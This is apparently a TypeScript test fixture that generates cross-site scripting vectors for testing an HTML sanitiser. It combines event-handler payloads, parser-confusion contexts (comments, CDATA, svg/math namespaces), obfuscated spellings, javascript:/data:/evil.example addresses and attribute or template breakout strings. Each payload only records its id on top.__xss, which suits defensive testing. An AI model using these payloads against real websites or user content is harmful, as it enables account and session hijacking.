/**
 * Attacks on an HTML sanitiser, made by crossing techniques with the contexts that hide them and the spellings
 * that disguise them. Each reports its number when it runs: `top.__xss` then holds that id. Deterministic.
 */
export type Vector = { id: number; name: string; html: string };

/** What an attack runs: no quotes, no spaces and no angle brackets, so that it fits every context. */
const call = (id: number) => `(top.__xss=top.__xss||[]).push(${id})`;

const handlers: Record<string, string> = {
  'img onerror': '<img src=x onerror=JS>',
  'image onerror': '<image src=x onerror=JS>',
  'img srcset onerror': '<img srcset=x onerror=JS>',
  'img onload': '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=JS>',
  'picture onerror': '<picture><source srcset=x><img onerror=JS></picture>',
  'svg onload': '<svg onload=JS></svg>',
  'svg nested onload': '<svg><svg onload=JS></svg></svg>',
  'svg animate onbegin': '<svg><animate onbegin=JS attributeName=x dur=1s></svg>',
  'svg set onbegin': '<svg><set onbegin=JS attributeName=x></set></svg>',
  'svg animateTransform': '<svg><animateTransform onbegin=JS attributeName=transform></svg>',
  'svg image onerror': '<svg><image href=x onerror=JS /></svg>',
  'svg script': '<svg><script>JS</script></svg>',
  'svg script data': '<svg><script href=data:text/javascript,JS></script></svg>',
  'svg xlink script': '<svg><script xlink:href=data:text/javascript,JS></script></svg>',
  'svg foreign img': '<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>',
  'math style img': '<math><style><img src=x onerror=JS></style></math>',
  'math mtext img': '<math><mtext><img src=x onerror=JS></mtext></math>',
  script: '<script>JS</script>',
  'script src': '<script src=data:text/javascript,JS></script>',
  'script module': '<script type=module>JS</script>',
  'body onload': '<body onload=JS>',
  'body onpageshow': '<body onpageshow=JS>',
  'iframe onload': '<iframe onload=JS></iframe>',
  'iframe srcdoc': '<iframe srcdoc=&lt;script&gt;JS&lt;/script&gt;></iframe>',
  'iframe src': '<iframe src=javascript:JS></iframe>',
  'object onerror': '<object data=x onerror=JS></object>',
  'object data': '<object data=javascript:JS></object>',
  'embed src': '<embed src=javascript:JS>',
  'embed onload': '<embed src=data:text/html,x onload=JS>',
  'input onfocus': '<input autofocus onfocus=JS>',
  'textarea onfocus': '<textarea autofocus onfocus=JS></textarea>',
  'select onfocus': '<select autofocus onfocus=JS></select>',
  'button onfocus': '<button autofocus onfocus=JS>x</button>',
  'p onfocus': '<p tabindex=1 autofocus onfocus=JS>x</p>',
  'link onfocus': '<a href=/ autofocus onfocusin=JS>x</a>',
  'editable onfocus': '<div contenteditable autofocus onfocus=JS>x</div>',
  'custom element': '<x-y tabindex=1 autofocus onfocus=JS>x</x-y>',
  'details ontoggle': '<details open ontoggle=JS>x</details>',
  'video onerror': '<video src=x onerror=JS></video>',
  'video source': '<video><source onerror=JS src=x></video>',
  'video onloadstart': '<video src=x onloadstart=JS></video>',
  'audio onerror': '<audio src=x onerror=JS></audio>',
  'marquee onstart': '<marquee onstart=JS>x</marquee>',
  'style onload': '<style onload=JS>x{}</style>',
  'link onload': '<link rel=stylesheet href=data:text/css,x onload=JS>',
  'link onerror': '<link rel=stylesheet href=x: onerror=JS>',
  'meta refresh': '<meta http-equiv=refresh content=0;url=javascript:JS>',
  'animation start': '<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=JS>x</b>',
  'content visibility':
    '<b oncontentvisibilityautostatechange=JS style=display:block;content-visibility:auto>x</b>',
  'form action': '<form action=javascript:JS><button autofocus onfocus=this.form.submit()>x</button></form>',
  'allowed p': '<p data-align=center onclick=1 tabindex=0 autofocus onfocus=JS>x</p>',
  'allowed callout': '<div data-callout=info tabindex=0 autofocus onfocus=JS>x</div>',
  'allowed mention': '<span data-mention=1 tabindex=0 autofocus onfocus=JS>x</span>',
  'allowed media': '<img src=/api/media/0/x alt=x width=1 onerror=JS>',
  'declarative shadow': '<div><template shadowrootmode=open><img src=x onerror=JS></template></div>',
};

const contexts: Record<string, string> = {
  plain: 'HTML',
  paragraph: '<p>text HTML text</p>',
  unclosed: '<h2><b><i>HTML',
  table: '<table><tr><td>HTML</table>',
  'loose in a table': '<table>HTML<tr></table>',
  list: '<ul>HTML<li>HTML</ul>',
  'short comment': '<!-->HTML-->',
  'bang comment': '<!--x--!>HTML-->',
  'bogus comment': '<!x>HTML',
  'processing instruction': '<?xml >HTML?>',
  cdata: '<![CDATA[>HTML]]>',
  'foreign cdata': '<svg><![CDATA[</svg>HTML]]>',
  'end tag with attributes': '</p x=">HTML">HTML',
  textarea: '<textarea></textarea>HTML',
  'textarea slash': '<textarea></textarea/>HTML',
  title: '<title></title>HTML',
  'title attribute': '<title><p title="</title>HTML">',
  style: '<style></style>HTML',
  'style attribute': '<style><p title="</style>HTML"></style>',
  'svg style': '<svg></p><style><a title="</style>HTML">',
  xmp: '<xmp><p title="</xmp>HTML">',
  noscript: '<noscript><p title="</noscript>HTML">',
  noembed: '<noembed><p title="</noembed>HTML"></noembed>',
  noframes: '<noframes><p title="</noframes>HTML"></noframes>',
  iframe: '<iframe><p title="</iframe>HTML"></iframe>',
  'select option': '<select><option></select>HTML',
  'math glyph': '<math><mtext><table><mglyph><style><!--</style>HTML',
  'math form': '<form><math><mtext></form><form><mglyph><style></math>HTML',
  annotation:
    '<math><annotation-xml encoding="text/html"><style><p title="</style>HTML"></annotation-xml></math>',
  'svg desc': '<svg><desc>HTML</desc></svg>',
  'svg title': '<svg><title><style><p title="</style>HTML"></title></svg>',
  'broken attribute': '<p title="><b x=">HTML',
  'double quote': '<img alt="" ">HTML',
  'single quote': "<a href='x' '>HTML</a>",
  'data attribute': '<div data-video="youtube" data-id=">HTML">HTML</div>',
  'code block': '<pre><code class="language-x">HTML</code></pre>',
  'figure caption': '<figure><img src="/api/media/1/x"><figcaption>HTML</figcaption></figure>',
  'link around': '<a href="/x"><p>HTML</p></a>',
};

type Spelling = (html: string) => string;

const spellings: Record<string, Spelling> = {
  upper: (html) => html.replace(/<\/?[a-z-]+|\bon[a-z]+(?==)/gi, (name) => name.toUpperCase()),
  mixed: (html) => html.replace(/<\/?[a-z-]+|\bon[a-z]+(?==)/gi, (name) => name.replace(/[a-z]/g, alternate)),
  slashes: (html) => html.replace(/ (?=[a-z:-]+=)/gi, '/'),
  tabs: (html) => html.replace(/ (?=[a-z:-]+=)/gi, '\t'),
  newlines: (html) => html.replace(/ (?=[a-z:-]+=)/gi, '\r\n'),
  'form feeds': (html) => html.replace(/ (?=[a-z:-]+=)/gi, '\f'),
  'space before equals': (html) => html.replace(/(on[a-z]+)=/gi, '$1 \n='),
  'double quotes': (html) => html.replace(/(on[a-z]+)=([^ >]+)/gi, '$1="$2"'),
  'single quotes': (html) => html.replace(/(on[a-z]+)=([^ >]+)/gi, "$1='$2'"),
  'decimal entities': (html) => inHandlers(html, (code) => `&#${code};`),
  'hexadecimal entities': (html) => inHandlers(html, (code) => `&#x${code.toString(16)};`),
  'long entities': (html) => inHandlers(html, (code) => `&#${String(code).padStart(9, '0')};`),
  'no last bracket': (html) => html.replace(/>$/, ' '),
  'doubled bracket': (html) => html.replace(/</g, '<<'),
  'nul in the name': (html) => html.replace(/<([a-z])/g, '<$1\0'),
  'nul in the attribute': (html) => html.replace(/\bon/g, 'o\0n'),
  'junk attributes': (html) => html.replace(/<([a-z-]+)/gi, "<$1 \"'`x='y' "),
  'twice the attribute': (html) => html.replace(/(on[a-z]+)=/gi, '$1=1;0 $1='),
  'other handler first': (html) => html.replace(/(on[a-z]+)=/gi, 'onx="&quot;" $1='),
  'byte order mark': (html) => `\ufeff${html}`,
  'full width': (html) => html.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  'escaped once': (html) => html.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  'split by itself': (html) => html.replace(/<([a-z]+)/i, '<<script></script>$1'),
};

const sinks: Record<string, string> = {
  link: '<a href="URL" autofocus onfocus=this.click()>x</a>',
  'plain link': '<a href="URL">x</a>',
  'svg link': '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  'math link': '<math href="URL">x</math>',
  area: '<map name=m><area href="URL"></map>',
  iframe: '<iframe src="URL"></iframe>',
  'youtube in a query': '<iframe src="URL//www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  frame: '<frameset><frame src="URL"></frameset>',
  object: '<object data="URL"></object>',
  embed: '<embed src="URL">',
  image: '<img src="URL">',
  'media image': '<img src="/api/media/../../URL">',
  video: '<video src="URL" poster="URL"></video>',
  form: '<form action="URL"><input type=submit></form>',
  formaction: '<form><button formaction="URL">x</button></form>',
  refresh: '<meta http-equiv=refresh content="0;url=URL">',
  base: '<base href="URL"><a href="#">x</a>',
  'style url': '<p style="background:url(URL)">x</p>',
  animated: '<svg><a><animate attributeName=href values="URL"/><text y=20>x</text></a></svg>',
};

const addresses: Record<string, string> = {
  plain: 'javascript:JS',
  upper: 'JAVASCRIPT:JS',
  mixed: 'jAvAsCrIpT:JS',
  'leading space': ' \t\n javascript:JS',
  'leading control': '\u0001javascript:JS',
  'inner tab': 'java\tscript:JS',
  'inner newline': 'java\nscript:JS',
  'entity tab': 'java&#9;script:JS',
  'entity newline': 'java&NewLine;script:JS',
  'entity colon': 'javascript&colon;JS',
  'decimal entities': `${entities('javascript:')}JS`,
  'entities without end': '&#106avascript:JS',
  'double slash': 'javascript://x%0aJS',
  'nul inside': 'java\0script:JS',
  'soft hyphen': 'java\u00adscript:JS',
  'data html': 'data:text/html,<script>JS</script>',
  'data base64': 'data:text/html;base64,PHNjcmlwdD50b3A8L3NjcmlwdD4=',
  'data svg': 'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=JS></svg>',
  vbscript: 'vbscript:JS',
  blob: 'blob:JS',
  'view source': 'view-source:javascript:JS',
  'protocol relative': '//evil.example/JS',
  backslashes: '\\\\evil.example/JS',
  'https without slashes': 'https:evil.example/JS',
};

/** Ways out of a text, a title, an attribute, a script or a template, for what is no HTML: names, titles, words. */
const breakouts: Record<string, string> = {
  element: '<img src=x onerror=JS>',
  attribute: '"><svg onload=JS>',
  'single quoted attribute': "'><svg onload=JS>",
  'attribute of its own': '" autofocus onfocus=JS x="',
  'script end': '</script><script>JS</script>',
  'title end': '</title><script>JS</script>',
  'text area end': '</textarea><img src=x onerror=JS>',
  'comment end': '--><img src=x onerror=JS>',
  'comment in a script': '<!--<script>JS</script>',
  'script string': '"-JS-"',
  'script string in single quotes': "'-JS-'",
  'script string by escape': '\\"-JS-\\u0022-JS',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would fill in
  template: '${JS}{{JS}}',
  address: 'javascript:JS',
  'escaped once': '&lt;img src=x onerror=JS&gt;',
};

export const vectors: Vector[] = build();
/** For plain texts; numbered on from the others, each at most 100 characters long. */
export const texts: Vector[] = Object.entries(breakouts).map(([name, text], index) => {
  const id = vectors.length + index;
  return { id, name, html: text.replaceAll('JS', call(id)) };
});
/** An address of each kind, that would run the same number. */
export const links: string[] = Object.values(addresses).map((address) =>
  address.replaceAll('JS', call(vectors.length + texts.length)),
);

function build(): Vector[] {
  const list: Vector[] = [];
  const add = (name: string, make: (js: string) => string) =>
    list.push({ id: list.length, name, html: make(call(list.length)) });
  const each = (templates: Record<string, string>) => Object.entries(templates);
  for (const [technique, html] of each(handlers)) {
    for (const [context, around] of each(contexts))
      add(`${technique} in ${context}`, (js) => around.replaceAll('HTML', html).replaceAll('JS', js));
    for (const [spelling, spell] of Object.entries(spellings))
      add(`${technique} with ${spelling}`, (js) => spell(html.replaceAll('JS', js)));
  }
  for (const [sink, html] of each(sinks))
    for (const [address, url] of each(addresses))
      add(`${address} address in ${sink}`, (js) => html.replaceAll('URL', url.replaceAll('JS', js)));
  return list;
}

function alternate(letter: string, index: number) {
  return index % 2 ? letter.toUpperCase() : letter.toLowerCase();
}

function inHandlers(html: string, encode: (code: number) => string) {
  return html.replace(
    /(on[a-z]+=)([^ >]+)/gi,
    (_, name: string, value: string) => name + encoded(value, encode),
  );
}

function entities(text: string) {
  return encoded(text, (code) => `&#${code};`);
}

function encoded(text: string, encode: (code: number) => string) {
  return [...text].map((character) => encode(character.charCodeAt(0))).join('');
}
